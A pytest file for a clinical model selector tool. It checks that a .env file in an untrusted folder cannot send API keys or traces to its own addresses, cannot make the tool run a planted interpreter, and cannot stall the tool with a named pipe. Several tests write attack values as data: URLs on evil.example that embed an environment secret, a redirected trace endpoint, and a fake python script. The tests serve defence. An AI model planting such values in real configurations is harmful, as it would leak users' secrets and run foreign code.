"""A folder that somebody handed over, with a ``.env`` in it: it gets no key, and runs nothing."""

from __future__ import annotations

import hashlib
import os
import sys
from pathlib import Path

import pytest
from clinical_model_selector.schemas.errors import SettingsError
from clinical_model_selector.schemas.settings import Settings, load_tracing_variables
from clinical_model_selector.synthesizers.running.environments import ENVIRONMENTS
from loopback.server import ScriptedServer
from tables import mixed_table

from .programs import plan_file, run

KEY = "sk-or-of-the-process"


@pytest.fixture
def folder(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The current folder, and a home without a configuration of its own."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    return tmp_path


def test_the_key_of_the_process_is_not_sent_to_an_address_of_the_folder(
    folder: Path, openrouter_server: ScriptedServer
) -> None:
    mixed_table(240).to_csv(folder / "table.csv", index=False)
    (folder / ".env").write_text(f"OPENROUTER_BASE={openrouter_server.origin}/api/v1\n")
    ended = run(folder, "select", "table.csv", variables={"OPENROUTER_API_KEY": KEY})
    assert openrouter_server.requests == []
    assert ended.returncode == 2
    assert "OPENROUTER_BASE comes from .env" in ended.stderr
    assert KEY not in ended.stderr


def test_a_secret_of_the_environment_is_not_woven_into_an_address(
    folder: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OTHER_SECRET", "hunter2")
    (folder / ".env").write_text("OLLAMA_BASE=http://evil.example/${OTHER_SECRET}\n")
    assert "hunter2" not in str(Settings().ollama_base)


@pytest.mark.parametrize("key", ["LANGSMITH_API_KEY", "LANGCHAIN_API_KEY"])
def test_traces_do_not_go_to_an_address_of_the_folder(folder: Path, monkeypatch: pytest.MonkeyPatch, key: str) -> None:
    monkeypatch.setenv(key, "lsv2_of_the_process")
    (folder / ".env").write_text("LANGSMITH_TRACING=true\nLANGSMITH_ENDPOINT=http://evil.example\n")
    with pytest.raises(SettingsError, match="LANGSMITH_ENDPOINT"):
        Settings()
    with pytest.raises(SettingsError, match="LANGSMITH_ENDPOINT"):
        load_tracing_variables()
    assert "LANGSMITH_ENDPOINT" not in os.environ


def test_programs_are_not_run_from_where_the_folder_says(folder: Path) -> None:
    python = folder / "environments" / "arf" / "bin" / "python"
    python.parent.mkdir(parents=True)
    python.write_text(f"#!{sys.executable}\nopen({str(folder / 'owned')!r}, 'w')\n")
    python.chmod(0o755)
    marker = hashlib.sha256(ENVIRONMENTS["arf"].requirements.read_bytes()).hexdigest()
    (folder / "environments" / "arf" / "complete").write_text(marker)
    (folder / ".env").write_text(f"SELECTOR_ENVIRONMENTS={folder / 'environments'}\n")
    plan_file(folder, ("arf", "gaussian_copula", "cart"))
    mixed_table(240).to_csv(folder / "table.csv", index=False)
    ended = run(folder, "synthesize", "table.csv", "--plan", "plan.json", "-o", "out.csv")
    assert not (folder / "owned").exists()
    assert ended.returncode == 2
    assert "SELECTOR_ENVIRONMENTS comes from .env" in ended.stderr


def test_a_pipe_in_place_of_the_file_is_not_waited_for(folder: Path) -> None:
    os.mkfifo(folder / ".env")
    mixed_table(240).to_csv(folder / "table.csv", index=False)
    ended = run(folder, "select", "table.csv", variables={"SELECTOR_EMBEDDED": "only"}, timeout=60)
    assert ended.returncode == 0, ended.stderr


def test_what_is_ones_own_is_believed(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    own = folder / "config" / "clinical-model-selector" / "settings.env"
    own.parent.mkdir(parents=True)
    own.write_text(
        "OPENROUTER_BASE=https://proxy.example/v1\nSELECTOR_ENVIRONMENTS=/opt/environments\nOLLAMA_MODEL=a\n"
    )
    (folder / ".env").write_text("OLLAMA_MODEL=b\nSELECTOR_EMBEDDED=never\n")
    monkeypatch.setenv("OPENROUTER_API_KEY", KEY)
    monkeypatch.setenv("SELECTOR_EMBEDDED", "only")
    settings = Settings()
    assert settings.openrouter_base == "https://proxy.example/v1"
    assert settings.selector_environments == "/opt/environments"
    assert (settings.ollama_model, settings.selector_embedded) == ("b", "only")


def test_key_and_address_of_the_same_file_belong_together(folder: Path) -> None:
    (folder / ".env").write_text("OPENROUTER_API_KEY=theirs\nOPENROUTER_BASE=http://theirs.example/v1\n")
    assert Settings().openrouter_base == "http://theirs.example/v1"


def test_the_file_that_was_read_is_said(folder: Path) -> None:
    mixed_table(240).to_csv(folder / "table.csv", index=False)
    (folder / ".env").write_text("SELECTOR_EMBEDDED=only\n")
    ended = run(folder, "select", "table.csv", "--json")
    assert ended.returncode == 0
    assert "settings are read from .env" in ended.stderr
